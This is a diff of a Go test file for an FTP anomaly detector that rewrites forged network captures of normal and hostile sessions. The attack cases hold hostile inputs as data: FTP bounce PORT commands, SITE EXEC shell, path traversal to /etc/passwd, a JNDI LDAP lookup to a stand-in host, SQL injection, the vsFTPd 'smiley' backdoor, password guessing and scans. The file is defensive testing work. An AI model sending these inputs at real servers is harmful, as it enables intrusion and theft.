@@ -5,11 +5,11 @@ package baseline
 import (
 	"bytes"
 	"fmt"
+	"ftplab/lab/internal/forge"
+	"slices"
 	"strings"
 	"testing"
 	"time"
-
-	"ftplab/lab/analysis/packet"
 )
 
 // ordinary sessions of ordinary clients and servers, however badly recorded, are
@@ -17,69 +17,69 @@ import (
 var ordinary = []struct {
 	name string
 	want Verdict
-	play func(*forge)
+	play func(*forge.Capture)
 }{
-	{"a listing and a download", IsNormal, func(f *forge) {
+	{"a listing and a download", IsNormal, func(f *forge.Capture) {
 		transfer(0, "LIST", answerer, 55)(f)
 		transfer(0, "RETR a", answerer, 5000)(f)
 	}},
-	{"one packet of a session", CannotTell, func(f *forge) { f.overhear(aClient, aServer+":21").say("< 230 in") }},
-	{"the middle of a session", IsNormal, func(f *forge) {
-		f.overhear(aClient, aServer+":21").say("< 250 ok\n> PORT 198,51,100,100,12,100\n< 200 ok\n> RETR a\n< 150 here\n< 226 done\n> CWD /")
+	{"one packet of a session", CannotTell, func(f *forge.Capture) { overhear(f, aClient, aServer+":21").Say("< 230 in") }},
+	{"the middle of a session", IsNormal, func(f *forge.Capture) {
+		overhear(f, aClient, aServer+":21").Say("< 250 ok\n> PORT 198,51,100,100,12,100\n< 200 ok\n> RETR a\n< 150 here\n< 226 done\n> CWD /")
 	}},
-	{"the server's half of a session", IsNormal, func(f *forge) {
-		f.overhear(aClient, aServer+":21").say("< 220 ready\n< 331 go on\n< 230 in\n< 215 UNIX\n< 227 (192,0,2,21,100,0)\n< 150 here\n< 226 done\n< 221 bye")
+	{"the server's half of a session", IsNormal, func(f *forge.Capture) {
+		overhear(f, aClient, aServer+":21").Say("< 220 ready\n< 331 go on\n< 230 in\n< 215 UNIX\n< 227 (192,0,2,21,100,0)\n< 150 here\n< 226 done\n< 221 bye")
 	}},
-	{"the client's half of a session", IsNormal, func(f *forge) {
-		f.overhear(aClient, aServer+":21").say("> USER ada\n> PASS x\n> SYST\n> PASV\n> LIST\n> QUIT")
+	{"the client's half of a session", IsNormal, func(f *forge.Capture) {
+		overhear(f, aClient, aServer+":21").Say("> USER ada\n> PASS x\n> SYST\n> PASV\n> LIST\n> QUIT")
 	}},
-	{"a session with a hole", IsNormal, func(f *forge) {
-		t := f.control().say(hello)
-		t.seq[answerer] += 300
-		t.seq[opener] += 100
-		t.say("< 226 done\n> PWD\n< 257 \"/\"").say(bye).close(answerer)
+	{"a session with a hole", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		t.Peer.Seq += 300
+		t.Seq += 100
+		t.Say("< 226 done\n> PWD\n< 257 \"/\"").Say(bye).Peer.Close()
 	}},
-	{"every packet twice", IsNormal, func(f *forge) {
-		t := f.control()
+	{"every packet twice", IsNormal, func(f *forge.Capture) {
+		t := f.Control()
 		for _, line := range strings.Split(strings.TrimSpace(hello+bye), "\n") {
 			line = strings.TrimSpace(line)
-			side := strings.IndexByte("><", line[0])
-			at := t.seq[side]
-			t.say(line)
-			t.again(side, at, line[2:]+"\r\n")
+			t.Say(line)
+			text := line[2:] + "\r\n"
+			end(t, strings.IndexByte("><", line[0])).SegmentAt(-len(text), "P.", text)
 		}
 	}},
-	{"a reply stored before its command", IsNormal, func(f *forge) {
-		t := f.control().say(hello)
-		c, s := t.seq[opener], t.seq[answerer]
-		t.seq[opener] += 5 // the reply acknowledges the command
-		t.send(answerer, "257 \"/\"\r\n")
-		t.packet(t.ends[0], t.ends[1], c, s, packet.PSH|packet.ACK, "PWD\r\n")
-		t.say("> NOOP\n< 200 ok").say(bye).close(answerer)
+	{"a reply stored before its command", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		t.Seq += 5 // the reply acknowledges the command
+		t.Peer.Segment("P.", "257 \"/\"\r\n")
+		t.Peer.Seq -= 9
+		t.SegmentAt(-5, "P.", "PWD\r\n")
+		t.Peer.Seq += 9
+		t.Say("> NOOP\n< 200 ok").Say(bye).Peer.Close()
 	}},
 	{"a client behind a translator", IsNormal, session1("> PORT 10,0,0,7,31,64\n< 200 ok\n> LIST\n< 425 cannot reach you")},
 	{"a client whose PORT is refused", IsNormal, session1("> PORT 10,0,0,7,31,64\n< 500 illegal PORT")},
 	{"a server behind a translator", IsNormal, session1("> PASV\n< 227 (10,0,0,21,100,0)\n> LIST\n< 150 here\n< 226 done")},
-	{"a translator that rewrites PORT", IsNormal, func(f *forge) {
-		t := f.control().say(hello).say("> PORT 203,0,113,9,12,100\n< 200 ok\n> LIST\n< 150 here")
-		f.download(aServer+":20", aClient+":3172", opener, 55)
-		t.say("< 226 done").say(bye).close(answerer)
+	{"a translator that rewrites PORT", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say("> PORT 203,0,113,9,12,100\n< 200 ok\n> LIST\n< 150 here")
+		download(f, aServer+":20", aClient+":3172", opener, 55)
+		t.Say("< 226 done").Say(bye).Peer.Close()
 	}},
 	{"a site with many data servers", IsUnusual, session1("> PASV\n< 227 (192,0,2,33,100,0)\n> LIST\n< 150 here\n< 226 done")},
-	{"a client in a container", IsUnusual, func(f *forge) {
-		f.dial("172.17.0.1", "172.17.0.2:21").say(hello).say("> PORT 192,168,0,5,200,1\n< 200 ok\n> LIST\n< 150 here\n< 226 done").say(bye).close(answerer)
+	{"a client in a container", IsUnusual, func(f *forge.Capture) {
+		dial(f, "172.17.0.1", "172.17.0.2:21").Say(hello).Say("> PORT 192,168,0,5,200,1\n< 200 ok\n> LIST\n< 150 here\n< 226 done").Say(bye).Peer.Close()
 	}},
-	{"a load generator", IsNormal, func(f *forge) {
-		t := f.control().say(hello)
+	{"a load generator", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello)
 		for i := range 70 {
-			t.say(fmt.Sprintf("> PORT 198,51,100,100,%d,99\n< 200 ok\n> RETR /default.txt\n< 125 here (5 bytes)\n< 226 done", 20+i))
+			t.Say(fmt.Sprintf("> PORT 198,51,100,100,%d,99\n< 200 ok\n> RETR /default.txt\n< 125 here (5 bytes)\n< 226 done", 20+i))
 		}
 	}},
-	{"a client that keeps its session alive", IsNormal, func(f *forge) {
-		t := f.control().say(hello)
+	{"a client that keeps its session alive", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello)
 		for range 100 {
-			f.pass(30 * time.Second)
-			t.say("> NOOP\n< 200 ok")
+			f.Pass(30 * time.Second)
+			t.Say("> NOOP\n< 200 ok")
 		}
 	}},
 	{"Explorer, which asks again and again", IsNormal, session1(strings.Repeat("> noop\n< 200 ok\n> CWD /pub/\n< 250 ok\n> CWD /pub/\n< 250 ok\n> PWD\n< 257 \"/pub\"\n> TYPE A\n< 200 A\n", 10))},
@@ -87,12 +87,12 @@ var ordinary = []struct {
 	{"a deep walk of a script", IsNormal, session1(strings.Repeat("> CWD sub\n< 250 ok\n", 12) + strings.Repeat("> CDUP\n< 250 ok\n", 12))},
 	{"a client that saves round trips", IsUnusual, session1("> TYPE I\n+ SIZE a\n+ MDTM a\n+ PASV\n< 200 ok\n+ 213 100\n+ 213 20200101000000\n+ 227 (192,0,2,21,100,0)")},
 	{"AUTH refused", IsNormal, dialogue("< 220 ready\n> AUTH TLS\n< 530 log in first\n> AUTH SSL\n< 530 log in first\n> USER ada\n< 331 and?\n> PASS x\n< 230 in")},
-	{"AUTH accepted", CannotTell, func(f *forge) {
-		t := f.control().say("< 220 ready\n> AUTH TLS\n< 234 go ahead")
-		t.send(opener, "\x16\x03\x01\x00\x20client hello, random bytes 1234")
-		t.send(answerer, "\x16\x03\x03\x00\x20server hello, random bytes 5678")
-		t.send(opener, "\x17\x03\x03\x00\x10QUIT or the like")
-		t.close(opener)
+	{"AUTH accepted", CannotTell, func(f *forge.Capture) {
+		t := f.Control().Say("< 220 ready\n> AUTH TLS\n< 234 go ahead")
+		t.Segment("P.", "\x16\x03\x01\x00\x20client hello, random bytes 1234")
+		t.Peer.Segment("P.", "\x16\x03\x03\x00\x20server hello, random bytes 5678")
+		t.Segment("P.", "\x17\x03\x03\x00\x10QUIT or the like")
+		t.Close()
 	}},
 	{"protected by Kerberos", IsNormal, dialogue("< 220 ready\n> AUTH GSSAPI\n< 334 go ahead\n> ADAT " + strings.Repeat("YII", 600) + "\n< 235 ADAT=" + strings.Repeat("YII", 60) + "\n> MIC " + strings.Repeat("VVNF", 200) + "\n< 631 " + strings.Repeat("MjMw", 30) + "\n> ENC " + strings.Repeat("UVVJ", 200) + "\n< 632 MjIx")},
 	{"no password asked", IsNormal, dialogue("< 220 ready\n> USER ftp\n< 230-NOTICE\n+ 230-more of it\n+ 230\n> SYST\n< 215 UNIX\n> QUIT\n< 221")},
@@ -101,38 +101,38 @@ var ordinary = []struct {
 	{"no room", IsNormal, dialogue("< 421 too many users")},
 	{"a server of an unusual make", IsUnusual, session1("> RNFR a\n< 350 ok\n> RNTO b\n< 257 ok\n> NOOP\n< 213 0\n> FEAT\n< 250 none")},
 	{"a mistyped password", IsNormal, dialogue("< 220 hi\n> USER ada\n< 331 and?\n> PASS oops\n< 530 no\n> USER ada\n< 331 and?\n> PASS secret\n< 230 in")},
-	{"a browser that asks with the same password", IsNormal, func(f *forge) {
+	{"a browser that asks with the same password", IsNormal, func(f *forge.Capture) {
 		for range 5 {
-			f.control().say("< 220 hi\n> USER anonymous\n< 331 and?\n> PASS chrome@example.com\n< 530 no\n> QUIT\n< 221 bye").close(opener)
+			f.Control().Say("< 220 hi\n> USER anonymous\n< 331 and?\n> PASS chrome@example.com\n< 530 no\n> QUIT\n< 221 bye").Close()
 		}
 	}},
-	{"an aborted download", IsNormal, func(f *forge) {
-		t := f.control().say(hello).say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
-		d := f.dial(aClient, aServer+":25600")
-		d.send(answerer, "the beginning")
-		t.send(opener, "\xff\xf4\xff\xf2ABOR\r\n")
-		d.fin(opener)
-		d.reset(answerer)
-		t.say("< 426 broken off\n< 226 aborted").say(bye).close(answerer)
+	{"an aborted download", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
+		d := dial(f, aClient, aServer+":25600")
+		d.Peer.Segment("P.", "the beginning")
+		t.Segment("P.", "\xff\xf4\xff\xf2ABOR\r\n")
+		d.FIN()
+		d.Peer.Segment("R.", "")
+		t.Say("< 426 broken off\n< 226 aborted").Say(bye).Peer.Close()
 	}},
-	{"a download taken up again", IsNormal, func(f *forge) {
-		t := f.control().say(hello).say("> TYPE I\n< 200 ok\n> SIZE a\n< 213 1000\n> PASV\n< 227 (192,0,2,21,100,0)\n> REST 900\n< 350 ok\n> RETR a\n< 150 opening (1000 bytes)")
-		f.download(aClient, aServer+":25600", answerer, 100)
-		t.say("< 226 done").say(bye).close(answerer)
+	{"a download taken up again", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say("> TYPE I\n< 200 ok\n> SIZE a\n< 213 1000\n> PASV\n< 227 (192,0,2,21,100,0)\n> REST 900\n< 350 ok\n> RETR a\n< 150 opening (1000 bytes)")
+		download(f, aClient, aServer+":25600", answerer, 100)
+		t.Say("< 226 done").Say(bye).Peer.Close()
 	}},
 	{"a command that nobody knows", IsNormal, session1("> CLNT some client 1.0\n< 500 what?\n> site help\n< 550 no\n> opts utf8 on\n< 200 ok\n> LPRT 6,16,1\n< 500 no")},
-	{"another port", IsNormal, func(f *forge) {
-		f.dial(aClient, aServer+":2121").say(hello).say("> EPSV\n< 229 (|||40000|)\n> LIST -a\n< 150 here\n< 226 done").say(bye).close(answerer)
+	{"another port", IsNormal, func(f *forge.Capture) {
+		dial(f, aClient, aServer+":2121").Say(hello).Say("> EPSV\n< 229 (|||40000|)\n> LIST -a\n< 150 here\n< 226 done").Say(bye).Peer.Close()
 	}},
-	{"IPv6", IsNormal, func(f *forge) {
-		t := f.dial("2001:db8::7", "[2001:db8:1::21]:21").say(hello).say("> EPRT |2|2001:db8::7|5000|\n< 200 ok\n> LIST\n< 150 here")
-		f.download("[2001:db8:1::21]:20", "[2001:db8::7]:5000", opener, 55)
-		t.say("< 226 done").say(bye).close(answerer)
+	{"IPv6", IsNormal, func(f *forge.Capture) {
+		t := dial(f, "2001:db8::7", "[2001:db8:1::21]:21").Say(hello).Say("> EPRT |2|2001:db8::7|5000|\n< 200 ok\n> LIST\n< 150 here")
+		download(f, "[2001:db8:1::21]:20", "[2001:db8::7]:5000", opener, 55)
+		t.Say("< 226 done").Say(bye).Peer.Close()
 	}},
-	{"blank lines that the server ignores", IsNormal, func(f *forge) {
-		t := f.control().say(hello)
-		t.send(opener, "\r\n")
-		t.say("> PWD\n< 257 \"/\"\n> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here\n< 226 done").say(bye).close(answerer)
+	{"blank lines that the server ignores", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		t.Segment("P.", "\r\n")
+		t.Say("> PWD\n< 257 \"/\"\n> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here\n< 226 done").Say(bye).Peer.Close()
 	}},
 	{"a NOOP that is never answered", IsNormal, session1("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here\n> NOOP\n< 226 done\n> PWD\n< 257 \"/\"\n> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here\n< 226 done")},
 	{"a transfer broken off without ABOR", IsNormal, session1("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here\n< 426 broken off\n< 226 aborted")},
@@ -141,104 +141,105 @@ var ordinary = []struct {
 	{"names in Russian, as Windows wrote them", IsNormal, session1("> CWD \xcc\xee\xff \xcd\xee\xe2\xe0\xff \xd1\xf2\xe0\xf2\xfc\xff \xff\xff\n< 250 ok\n> RETR \xff\xe1\xeb\xee\xea\xee \xff.txt\n< 550 no")},
 	{"a passive port below 1024 that works", IsUnusual, session1("> PASV\n< 227 (192,0,2,21,0,20)\n> LIST\n< 150 here\n< 226 done")},
 	{"features without a hyphen", IsUnusual, session1("> FEAT\n< 211 Features:\n+  EPSV\n+ PASV\n+ 211 End")},
-	{"secrets that do not look like TLS", CannotTell, func(f *forge) {
-		t := f.control().say("< 220 ready\n> AUTH TLS\n< 234 go ahead")
+	{"secrets that do not look like TLS", CannotTell, func(f *forge.Capture) {
+		t := f.Control().Say("< 220 ready\n> AUTH TLS\n< 234 go ahead")
 		for range 40 {
-			t.send(opener, "\x80\x01\x02\x03\x04\x05 secret \n secrets of forty bytes and more \x90\x90\x90\x90\x90\x90\x90\x90\r\n")
-			t.send(answerer, "QUIT\r\n \x05\x06 other secrets\r\n")
+			t.Segment("P.", "\x80\x01\x02\x03\x04\x05 secret \n secrets of forty bytes and more \x90\x90\x90\x90\x90\x90\x90\x90\r\n")
+			t.Peer.Segment("P.", "QUIT\r\n \x05\x06 other secrets\r\n")
 		}
 	}},
 	{"a knock at a closed port", CannotTell, refusedCall},
-	{"no FTP at all", CannotTell, func(f *forge) {
-		f.dial(aClient, aServer+":80").say("> GET / HTTP/1.0\n< HTTP/1.0 200 OK").close(answerer)
+	{"no FTP at all", CannotTell, func(f *forge.Capture) {
+		dial(f, aClient, aServer+":80").Say("> GET / HTTP/1.0\n< HTTP/1.0 200 OK").Peer.Close()
 	}},
-	{"TLS from the first byte", CannotTell, func(f *forge) { inTLS(f.dial(aClient, aServer+":990")).close(opener) }},
-	{"a session in TLS", CannotTell, func(f *forge) { inTLS(f.control().say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).close(opener) }},
-	{"a session in TLS beside one in clear", IsNormal, func(f *forge) {
-		inTLS(f.control().say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).close(opener)
+	{"TLS from the first byte", CannotTell, func(f *forge.Capture) { inTLS(dial(f, aClient, aServer+":990")).Close() }},
+	{"a session in TLS", CannotTell, func(f *forge.Capture) { inTLS(f.Control().Say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).Close() }},
+	{"a session in TLS beside one in clear", IsNormal, func(f *forge.Capture) {
+		inTLS(f.Control().Say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).Close()
 		session1("")(f)
 	}},
 	{"ClientHello at a server of explicit FTPS", IsUnusual, besideTests["tls-is-agreed"].breaks},
 	{"220 to QUIT, 227 to EPSV, 200 to MLSD", IsUnusual, session1("> EPSV\n< 227 (192,0,2,21,100,0)\n> MLSD\n< 200 ok\n> QUIT\n< 220 bye")},
 	{"a stray reply in front of the 227", IsUnusual, session1("> CWD a\n< 250 ok\n> PASV\n< 250 ok\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here\n< 226 done")},
 	{"a login with an account", IsNormal, dialogue("< 220 ready\n> USER ada\n< 331 and?\n> PASS x\n< 332 which account?\n> ACCT y\n< 230 in\n> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here\n< 226 done")},
-	{"compressed transfers", IsNormal, func(f *forge) {
-		t := f.control().say(hello).say("> TYPE I\n< 200 ok\n> MODE Z\n< 200 ok\n> SIZE a\n< 213 100000\n> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
-		f.download(aClient, aServer+":25600", answerer, 237)
-		t.say("< 226 done").say(bye).close(answerer)
+	{"compressed transfers", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say("> TYPE I\n< 200 ok\n> MODE Z\n< 200 ok\n> SIZE a\n< 213 100000\n> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
+		download(f, aClient, aServer+":25600", answerer, 237)
+		t.Say("< 226 done").Say(bye).Peer.Close()
 	}},
-	{"only the server was recorded", IsNormal, func(f *forge) {
-		f.mute = aClient
+	{"only the server was recorded", IsNormal, func(f *forge.Capture) {
+		active(":20")(f)
+		f.Frames = slices.DeleteFunc(f.Frames, fromClient)
+	}},
+	{"a banner that is no FTP, recorded twice", CannotTell, func(f *forge.Capture) {
+		t := f.Control()
+		t.Peer.Segment("P.", "vsFTPd 2.3.4\r\n")
+		t.Peer.SegmentAt(-14, "P.", "vsFTPd 2.3.4\r\n")
+		t.Close()
+	}},
+	{"a PORT cut short by the recorder", IsNormal, func(f *forge.Capture) {
+		f.Snap = 84
 		active(":20")(f)
 	}},
-	{"a banner that is no FTP, recorded twice", CannotTell, func(f *forge) {
-		t := f.control()
-		t.send(answerer, "vsFTPd 2.3.4\r\n")
-		t.again(answerer, 2001, "vsFTPd 2.3.4\r\n")
-		t.close(opener)
+	{"a damaged command and its retransmission", IsNormal, func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		t.SegmentAt(0, "P.", "QXD\r\n")
+		spoil(f.Last(0))
+		t.Segment("P.", "PWD\r\n")
+		t.Say("< 257 \"/\"").Say(bye).Peer.Close()
 	}},
-	{"a PORT cut short by the recorder", IsNormal, func(f *forge) {
-		f.snap = 70
-		active(":20")(f)
+	{"checksums that a network card makes", IsNormal, func(f *forge.Capture) {
+		f.Control().Say(hello).Say("> PWD\n< 257 \"/\"").Say(bye).Peer.Close()
+		for i := range f.Frames {
+			if fromClient(f.Frames[i]) {
+				spoil(&f.Frames[i])
+			}
+		}
 	}},
-	{"a damaged command and its retransmission", IsNormal, func(f *forge) {
-		f.checksums = true
-		t := f.control().say(hello)
-		f.damage = true
-		at := t.seq[opener]
-		t.packet(t.ends[0], t.ends[1], at, t.seq[answerer], packet.PSH|packet.ACK, "QXD\r\n")
-		f.damage = false
-		t.send(opener, "PWD\r\n")
-		t.say("< 257 \"/\"").say(bye).close(answerer)
-	}},
-	{"checksums that a network card makes", IsNormal, func(f *forge) {
-		f.checksums, f.offloads = true, aClient
-		f.control().say(hello).say("> PWD\n< 257 \"/\"").say(bye).close(answerer)
-	}},
-	{"three users of one host, one mistake each", IsNormal, func(f *forge) {
+	{"three users of one host, one mistake each", IsNormal, func(f *forge.Capture) {
 		for i := range 3 {
-			f.control().say(fmt.Sprintf("< 220 hi\n> USER user%d\n< 331 and?\n> PASS oops%d\n< 530 no", i, i) + bye).close(opener)
-			f.pass(time.Hour)
+			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER user%d\n< 331 and?\n> PASS oops%d\n< 530 no", i, i) + bye).Close()
+			f.Pass(time.Hour)
 		}
 	}},
-	{"a client that tries at every firewall", IsNormal, func(f *forge) { // blocked data ports are no scan
-		t := f.control().say(hello)
+	{"a client that tries at every firewall", IsNormal, func(f *forge.Capture) { // blocked data ports are no scan
+		t := f.Control().Say(hello)
 		for i := range 12 {
-			t.say(fmt.Sprintf("> EPSV\n< 229 (|||%d|)\n> LIST", 40000+i))
+			t.Say(fmt.Sprintf("> EPSV\n< 229 (|||%d|)\n> LIST", 40000+i))
 			knocks(f, 1, func(int) string { return addrPort(aServer, 40000+i) })
-			t.say("< 425 no connection")
+			t.Say("< 425 no connection")
 		}
-		t.say(bye).close(answerer)
+		t.Say(bye).Peer.Close()
 	}},
 }
 
 // attacks are what must be caught, and the rule that a specialist would name.
 var attacks = []struct {
 	name, rule string
-	play       func(*forge)
+	play       func(*forge.Capture)
 }{
 	{"a bounce to a mail server", "own-address", session1("> PORT 203,0,113,25,0,25\n< 200 ok\n> RETR letter\n< 150 here\n< 226 done")},
 	{"a bounce scan", "own-address", session1("> PORT 192,0,2,80,0,80\n< 200 ok\n> LIST\n< 425 no\n> PORT 192,0,2,81,31,144\n< 200 ok\n> LIST\n< 226 done")},
-	{"a bounce to a neighbour", "own-address", func(f *forge) {
-		f.dial("10.1.1.5", "10.1.2.9:21").say(hello).say("> PORT 10,1,1,6,31,64\n> QUIT\n< 221 bye").close(opener)
+	{"a bounce to a neighbour", "own-address", func(f *forge.Capture) {
+		dial(f, "10.1.1.5", "10.1.2.9:21").Say(hello).Say("> PORT 10,1,1,6,31,64\n> QUIT\n< 221 bye").Close()
 	}},
-	{"a test of the bounce", "own-address", func(f *forge) {
-		f.dial("192.168.1.5", "192.168.1.9:21").say(hello).say("> PORT 203,0,113,62,80,80\n< 200 ok\n> QUIT\n< 221 bye").close(opener)
+	{"a test of the bounce", "own-address", func(f *forge.Capture) {
+		dial(f, "192.168.1.5", "192.168.1.9:21").Say(hello).Say("> PORT 203,0,113,62,80,80\n< 200 ok\n> QUIT\n< 221 bye").Close()
 	}},
-	{"five hundred PORTs", "own-address", func(f *forge) {
-		t := f.dial("10.0.0.1", "10.0.0.2:21").say("< 220 ready")
+	{"five hundred PORTs", "own-address", func(f *forge.Capture) {
+		t := dial(f, "10.0.0.1", "10.0.0.2:21").Say("< 220 ready")
 		for i := range 500 {
-			t.say(fmt.Sprintf("> PORT 10,0,0,200,%d,%d", 80+i/256, i%256))
+			t.Say(fmt.Sprintf("> PORT 10,0,0,200,%d,%d", 80+i/256, i%256))
 		}
 	}},
 	{"all commands before the greeting", "server-greets-first", dialogue("> USER a\n> PASS b\n> SYST\n> QUIT\n< 220 ready\n< 331 x\n< 230 x\n< 215 x\n< 221 x")},
 	{"a server that quits", "sides-keep-their-roles", dialogue("< 220 ready\n> USER u\n< 331 x\n> PASS p\n< 230 in\n> EPRT |1|198.51.100.100|5000|\n< 200 ok\n< QUIT\n< 221 bye")},
 	{"a server that logs in", "sides-keep-their-roles", dialogue("< 220 ready\n> USER u\n< USER u\n> PASS p\n< PASS p\n< 230 in")},
-	{"an answer in front of its question", "reply-answers-command", func(f *forge) {
-		t := f.control().say("< 220 ready\n> USER a")
-		t.send(answerer, "331 ok\r\n550 BBBB")
-		t.say("> PWD")
-		t.send(answerer, "CCCC\r\n226 done\r\n")
+	{"an answer in front of its question", "reply-answers-command", func(f *forge.Capture) {
+		t := f.Control().Say("< 220 ready\n> USER a")
+		t.Peer.Segment("P.", "331 ok\r\n550 BBBB")
+		t.Say("> PWD")
+		t.Peer.Segment("P.", "CCCC\r\n226 done\r\n")
 	}},
 	{"answers to another dialogue", "reply-fits-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n+ 550 no\n> PWD\n< 226 done")},
 	{"a welcome before the password", "reply-answers-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n< 230 in\n> PASS x")},
@@ -250,11 +251,11 @@ var attacks = []struct {
 	{"a code without a blank", "reply-well-formed", session1("> RETR a\n< 230_no_space")},
 	{"a reply that overflows", "reply-of-normal-length", session1("> PASV\n< 227 " + strings.Repeat("A", 9000))},
 	{"SSH", "ftp-at-the-ftp-port", ruleTests["ftp-at-the-ftp-port"].breaks},
-	{"a binary protocol", "ftp-at-the-ftp-port", func(f *forge) {
-		t := f.control()
-		t.send(opener, "\x01\x00\x00\x00\x10\x00\x00\x00beacon\x00\x01")
-		t.send(answerer, "\x02\x00\x00\x00\x08\x00\x00\x00")
-		t.close(opener)
+	{"a binary protocol", "ftp-at-the-ftp-port", func(f *forge.Capture) {
+		t := f.Control()
+		t.Segment("P.", "\x01\x00\x00\x00\x10\x00\x00\x00beacon\x00\x01")
+		t.Peer.Segment("P.", "\x02\x00\x00\x00\x08\x00\x00\x00")
+		t.Close()
 	}},
 	{"a web request", "commands-are-ftp", dialogue("< 220 ready\n> GET / HTTP/1.1\n+ Host: x\n< 500 what?\n< 500 what?")},
 	{"SITE EXEC", "no-known-exploits", session1("> SITE EXEC /bin/sh -c id\n< 200 ok")},
@@ -263,178 +264,175 @@ var attacks = []struct {
 	{"a traversal", "no-climbing", session1("> RETR ../../../../../../etc/passwd\n< 150 here\n< 226 done")},
 	{"a traversal in disguise", "no-climbing", session1("> RETR ..%5c..%5cboot.ini\n< 550 no")},
 	{"a traversal with dots", "no-climbing", session1("> CWD ..../..../windows\n< 250 ok\n> RETR .../.../x\n< 550 no")},
-	{"the smiley", "no-known-exploits", func(f *forge) {
-		t := f.control().say("< 220 (vsFTPd 2.3.4)\n> USER letmein:)\n< 331 go on\n> PASS x")
-		f.dial(aClient, aServer+":6200").say("> id\n< uid=0(root)").close(opener)
-		t.reset(opener)
+	{"the smiley", "no-known-exploits", func(f *forge.Capture) {
+		t := f.Control().Say("< 220 (vsFTPd 2.3.4)\n> USER letmein:)\n< 331 go on\n> PASS x")
+		dial(f, aClient, aServer+":6200").Say("> id\n< uid=0(root)").Close()
+		t.Segment("R.", "")
 	}},
 	{"a look-up", "no-known-exploits", dialogue("< 220 ready\n> USER ${jndi:ldap://203.0.113.66/a}\n< 331 go on")},
 	{"injected SQL", "no-known-exploits", dialogue("< 220 ready\n> USER %') and 1=2 union select 1,1,uid,gid from ftp; --\n< 331 go on\n> PASS 1\n< 230 in")},
 	{"loot", "no-known-exploits", session1("> PASV\n< 227 (192,0,2,21,100,0)\n> STOR PW_admin-DESKTOP-1_2023_01_31_12_00_00.html\n< 150 here\n< 226 done")},
-	{"a dictionary in one session", "no-guessing", func(f *forge) {
-		t := f.control().say("< 220 hi")
+	{"a dictionary in one session", "no-guessing", func(f *forge.Capture) {
+		t := f.Control().Say("< 220 hi")
 		for i := range 12 {
-			f.pass(10 * time.Second)
-			t.say(fmt.Sprintf("> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i))
+			f.Pass(10 * time.Second)
+			t.Say(fmt.Sprintf("> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i))
 		}
 	}},
-	{"a dictionary that finds the word", "no-guessing", func(f *forge) {
+	{"a dictionary that finds the word", "no-guessing", func(f *forge.Capture) {
 		for i := range 7 {
-			f.control().say(fmt.Sprintf("< 220 hi\n> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i)).close(opener)
+			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i)).Close()
 		}
-		f.control().say(hello)
+		f.Control().Say(hello)
 	}},
-	{"a dictionary of which the answers are seen", "no-guessing", func(f *forge) {
+	{"a dictionary of which the answers are seen", "no-guessing", func(f *forge.Capture) {
 		for range 12 {
-			f.overhear(aClient, aServer+":21").say("< 530 no")
+			overhear(f, aClient, aServer+":21").Say("< 530 no")
 		}
 	}},
-	{"a dictionary without its answers", "no-guessing", func(f *forge) {
+	{"a dictionary without its answers", "no-guessing", func(f *forge.Capture) {
 		for i := range 12 {
-			f.overhear(aClient, aServer+":21").say(fmt.Sprintf("> USER admin\n> PASS pw%d", i))
+			overhear(f, aClient, aServer+":21").Say(fmt.Sprintf("> USER admin\n> PASS pw%d", i))
 		}
 	}},
-	{"a sweep", "no-scans", func(f *forge) {
+	{"a sweep", "no-scans", func(f *forge.Capture) {
 		knocks(f, 30, func(i int) string { return fmt.Sprintf("192.0.2.%d:21", i+1) })
 	}},
-	{"a sweep that waits for the greeting, once an hour", "no-scans", func(f *forge) {
+	{"a sweep that waits for the greeting, once an hour", "no-scans", func(f *forge.Capture) {
 		for i := range 12 {
-			f.dial(aClient, fmt.Sprintf("192.0.%d.21:21", i)).say("< 220 ready").close(opener)
-			f.pass(time.Hour)
+			dial(f, aClient, fmt.Sprintf("192.0.%d.21:21", i)).Say("< 220 ready").Close()
+			f.Pass(time.Hour)
 		}
 	}},
-	{"a sweep of a web server's port, and then a session", "no-scans", func(f *forge) {
+	{"a sweep of a web server's port, and then a session", "no-scans", func(f *forge.Capture) {
 		for i := range 15 {
-			f.refuse(aClient, fmt.Sprintf("192.0.2.%d:8080", i+10))
+			refuse(f, aClient, fmt.Sprintf("192.0.2.%d:8080", i+10))
 		}
 		session1("")(f)
 	}},
-	{"a scan, and then a session", "no-scans", func(f *forge) {
+	{"a scan, and then a session", "no-scans", func(f *forge.Capture) {
 		scan(f, time.Second, 20)
 		session1("")(f)
 	}},
-	{"a scan with flags that begin nothing", "no-scans", func(f *forge) {
+	{"a scan with flags that begin nothing", "no-scans", func(f *forge.Capture) {
 		for i := range 12 {
-			t := f.overhear(aClient, addrPort(aServer, 20+i))
